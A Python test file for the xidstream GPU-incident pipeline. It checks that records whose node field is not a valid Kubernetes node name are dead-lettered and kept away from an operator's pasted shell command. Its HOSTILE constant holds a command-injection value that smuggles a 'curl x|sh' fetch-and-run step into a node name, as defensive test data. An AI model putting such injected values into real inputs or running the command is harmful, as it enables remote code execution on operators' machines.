"""A record whose node is not a Kubernetes node name (schemas.base `is_node_name`) never reaches
the fold: the GPU agent and the results agent dead-letter it with the reason, naming the field,
and go on. Such a name would otherwise ride into incidents, commands and the approve line that
`xidstream incidents` prints for an operator to paste into a shell."""

from __future__ import annotations

import asyncio

import orjson

from xidstream.schemas import Action, Classification, decode_any, encode
from xidstream.streams.app import create_app
from tests.streams.builders import GPU, at, xid
from xidstream.schemas.models import RemediationResult
from xidstream.settings import Settings

HOSTILE = "gpu-node-9 --key /dev/null; curl x|sh; echo"


def _app():
    proc = create_app(Settings(topic_prefix="tc."))
    sent: dict[str, list] = {"alerts": [], "deadletter": [], "results_by_gpu": []}
    for name in sent:
        async def send(key=None, value=None, _name=name, **kwargs):
            sent[_name].append(value)
        getattr(proc, name).send = send
    return proc, sent


def _hostile(record) -> bytes:
    return orjson.dumps({**orjson.loads(encode(record)), "node": HOSTILE})


def test_an_input_about_a_node_of_no_kubernetes_name_is_dead_lettered_with_the_reason():
    async def run():
        proc, sent = _app()
        async with proc.gpus.test_context() as agent:
            await agent.put(_hostile(xid(10, 79, pid=None)), key=GPU.encode())
            await agent.put(encode(xid(11, 13)), key=GPU.encode())
        return sent

    sent = asyncio.run(run())
    (dead,) = [decode_any(v) for v in sent["deadletter"]]
    assert dead.error_type == "DecodeError"
    assert "node: Value error, not a Kubernetes node name (a DNS-1123 subdomain" in dead.error
    assert orjson.loads(dead.original)["node"] == HOSTILE  # kept byte for byte, for whoever looks
    # the good record after it is folded as ever; nothing of the hostile one is
    alerts = [decode_any(v) for v in sent["alerts"]]
    assert [a.classification for a in alerts] == [Classification.APP_FAULT]
    assert all(a.node == "node-a" for a in alerts)


def test_a_result_about_a_node_of_no_kubernetes_name_is_dead_lettered_with_the_reason():
    result = RemediationResult(ts=at(300), node="node-a", gpu_uuid=GPU, command_id="c-1", incident_id="i-1",
                               action=Action.RESET_GPU, outcome="failed", detail="in use")

    async def run():
        proc, sent = _app()
        async with proc.rekey.test_context() as agent:
            await agent.put(_hostile(result), key=b"node-a")
            await agent.put(encode(result), key=b"node-a")
        return sent

    sent = asyncio.run(run())
    (dead,) = [decode_any(v) for v in sent["deadletter"]]
    assert dead.error_type == "DecodeError" and "node: Value error, not a Kubernetes node name" in dead.error
    assert [decode_any(v).node for v in sent["results_by_gpu"]] == ["node-a"]
